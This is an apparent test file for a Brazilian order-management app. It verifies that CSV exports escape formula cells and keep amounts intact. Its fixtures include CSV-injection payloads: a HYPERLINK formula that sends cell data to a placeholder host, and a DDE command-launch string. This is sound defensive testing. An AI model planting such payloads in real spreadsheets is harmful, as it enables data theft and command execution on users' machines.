import { readFileSync } from 'node:fs';
import { orderExportColumns as allOrdersColumns } from '../../src/custom/gerenciarPedidos/tabs/all/allOrdersColumns';
import { csvCell, type CsvKind } from '../../src/kit/list/csvCell';
import { csvHeader, csvRows, type CsvColumn } from '../../src/kit/list/csvExport';
import { answersCsv, pendingCsv } from '../../src/resources/formularios/answersCsv';
import { HISTORY_EXPORT_COLUMNS } from '../../src/resources/historico/historyColumns';
import { INVOICE_EXPORT_COLUMNS } from '../../src/resources/notas/invoiceColumns';
import { RECEIVING_EXPORT_COLUMNS } from '../../src/resources/opcoesRecebimento/receivingColumns';
import { paymentExportColumns } from '../../src/resources/pagamentos/paymentColumns';
import { orderExportColumns } from '../../src/resources/pedidos/orderColumns';
import { sourceFiles } from './sourceFiles';

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1;"ver")', '+SUM(1;2)', '-2+3', '@cmd', ' =1+1', '\t=1', '\r\n-1+1', '=cmd|\' /C calc\'!A0'];
const VALUES_KEPT = ['-', '-12,5', '-1.234,56', '12,5'];

/** The cells of a ';' CSV (RFC 4180 quoting), after the BOM. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  const endCell = () => {
    rows[rows.length - 1].push(cell);
    cell = '';
  };
  for (let at = 0; at < text.length; at += 1) {
    const char = text[at];
    if (quoted && char === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (quoted) {
      if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ';') endCell();
    else if (char === '\r' && text[at + 1] === '\n') {
      endCell();
      rows.push([]);
      at += 1;
    } else cell += char;
  }
  return rows.filter((row) => row.length > 0);
}

/** A cell a spreadsheet would run as a formula. */
const runsAsFormula = (cell: string): boolean => {
  const start = cell.trimStart();
  return /^[=+\-@]/.test(start) && start !== '-' && !/^[+-]?[\d.]+(,\d+)?%?$/.test(start);
};

const poisonedRow = (columns: readonly CsvColumn[], value: unknown, amount: unknown = value, base: Record<string, unknown> = {}): Record<string, unknown> => {
  const row: Record<string, unknown> = structuredClone(base);
  for (const { source, kind } of columns) {
    const path = source.split('.');
    let at = row;
    path.slice(0, -1).forEach((key) => (at = (at[key] ??= {}) as Record<string, unknown>));
    at[path[path.length - 1]] = kind === 'amount' || kind === 'number' ? amount : value;
  }
  return row;
};

/** Every CSV export of the app, by the column definitions it writes with. */
const EXPORTS: [name: string, columns: () => CsvColumn[], base?: Record<string, unknown>][] = [
  ['Gerenciar pedidos, Todos pedidos', () => allOrdersColumns(new Map([[1, '=1+1']]))],
  ['Pedidos pendentes', () => orderExportColumns('pedidosPendentes')],
  ['Pedidos agendados', () => orderExportColumns('pedidosAgendados')],
  ['Opções de recebimento', () => RECEIVING_EXPORT_COLUMNS],
  ['Pagamentos', () => paymentExportColumns(new Date(2026, 2, 10)), { paymentDetail: [] }],
  ['Histórico de agendamento', () => HISTORY_EXPORT_COLUMNS],
  ['Notas fiscais', () => INVOICE_EXPORT_COLUMNS],
];

describe('CSV exports neutralise formula cells without changing values', () => {
  it.each(EXPORTS)('%s: no cell runs as a formula, whatever the server sent; amounts stay numbers', (_name, columns, base) => {
    const defined = columns();
    for (const poison of FORMULAS) {
      const [header, ...rows] = cellsOf(csvHeader(defined) + csvRows([poisonedRow(defined, poison, poison, base)], defined));
      expect(header).toHaveLength(defined.length);
      const running = rows.flat().filter(runsAsFormula);
      expect(running, JSON.stringify(poison)).toEqual([]);
    }
    const textColumns = defined.filter((column) => (column.kind ?? 'text') === 'text' && !column.format);
    if (textColumns.length > 0) {
      const [, row] = cellsOf(csvHeader(defined) + csvRows([poisonedRow(defined, '@SUM(1)', '@SUM(1)', base)], defined));
      expect(row.filter((cell) => cell === "'@SUM(1)").length).toBeGreaterThanOrEqual(textColumns.length);
    }
    const amounts = defined.filter((column) => column.kind === 'amount');
    const [, numbers] = cellsOf(csvHeader(defined) + csvRows([poisonedRow(defined, 'texto', -12.5, base)], defined));
    amounts.forEach((column) => expect(numbers[defined.indexOf(column)], column.source).toBe('-12,50'));
  });

  it('form answers and pending suppliers: question titles, options, texts and names from the server are neutralised', () => {
    const sheet = {
      formId: 1,
      title: '=t',
      questions: [
        { id: 1, title: '=HYPERLINK("http://x")', type: 'TEXT', options: [] },
        { id: 2, title: '+q', type: 'MULTIPLE_SELECT', options: [{ id: 7, title: '-1+1' }, { id: 8, title: '@o' }] },
      ],
      answers: [{ supplierId: 1000001, supplierName: '@Fornecedor', answeredAt: '2026-03-10T09:00:00', answers: [{ questionId: 1, text: '=1+1' }, { questionId: 2, selected: [7, 8] }] }],
    } as unknown as Parameters<typeof answersCsv>[0];
    const answers = cellsOf(answersCsv(sheet, { code: 'Código', supplier: 'Fornecedor', answeredAt: 'Respondido em' }).join(''));
    expect(answers.flat().filter(runsAsFormula)).toEqual([]);
    expect(answers[0]).toContain('\'=HYPERLINK("http://x")');
    expect(answers[1]).toEqual(['\t1000001', "'@Fornecedor", expect.any(String), "'=1+1", "'-1+1, @o"]);
    const pending = cellsOf(pendingCsv([{ id: 2000001, name: '=evil()', email: '-x@y' }], { code: 'Código', supplier: 'Fornecedor', email: 'E-mail' }).join(''));
    expect(pending[1]).toEqual(['\t2000001', "'=evil()", "'-x@y"]);
  });

  it.each<[CsvKind, unknown, string]>([
    ['text', '-', '-'],
    ['text', '-12,5', '-12,5'],
    ['text', '-1.234,56', '-1.234,56'],
    ['text', '=1', "'=1"],
    ['text', '+1+1', "'+1+1"],
    ['text', '@x', "'@x"],
    ['text', '-x', "'-x"],
    ['amount', -12.5, '-12,50'],
    ['amount', '-12,5', '-12,50'],
    ['number', -12.5, '-12,5'],
    ['code', '=1', "'=1"],
  ])('the kit’s writer: %s %j → %j', (kind, value, cell) => {
    expect(csvCell(value, kind)).toBe(cell);
    expect(VALUES_KEPT.every((kept) => csvCell(kept) === kept)).toBe(true);
  });

  it('every CsvColumn definition of the app is in this table or writes through the kit (no other CSV writer)', () => {
    const declaring = sourceFiles('src').filter((file) => /CsvColumn\[\]/.test(readFileSync(file, 'utf8')) && !file.startsWith('src/kit/'));
    const tabled = [
      'src/custom/gerenciarPedidos/tabs/all/allOrdersColumns.tsx',
      'src/resources/pedidos/orderColumns.tsx',
      'src/resources/opcoesRecebimento/receivingColumns.tsx',
      'src/resources/pagamentos/paymentColumns.ts',
      'src/resources/historico/historyColumns.ts',
      'src/resources/notas/invoiceColumns.ts',
      'src/resources/formularios/answersCsv.ts',
    ];
    // List screens' own columns (Logs, Permissões, Comunicados, Contatos, Grupos, Usuários) are written by the same
    // csvRows, which puts every cell, formatted or not, through csvCell.
    const listScreens = declaring.filter((file) => !tabled.includes(file));
    expect(listScreens.every((file) => /List\.tsx$/.test(file))).toBe(true);
    expect(tabled.every((file) => declaring.includes(file))).toBe(true);
    const otherWriters = sourceFiles('src').filter((file) => !file.startsWith('src/kit/list/') && /text\/csv/.test(readFileSync(file, 'utf8')));
    expect(otherWriters).toEqual([]);
  });
});
